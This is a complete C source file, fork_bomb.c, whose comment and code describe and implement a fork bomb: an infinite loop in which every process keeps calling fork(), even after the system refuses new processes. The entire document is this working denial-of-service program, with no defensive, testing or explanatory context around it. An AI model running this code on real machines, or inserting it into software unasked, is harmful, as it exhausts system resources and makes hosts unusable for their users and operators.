/* SPDX-License-Identifier: Apache-2.0 */
/* fork_bomb.c - fork for ever, in every process, also after the first refusal. */
#include <unistd.h>

int main(void)
{
	for (;;)
		(void)fork();
}
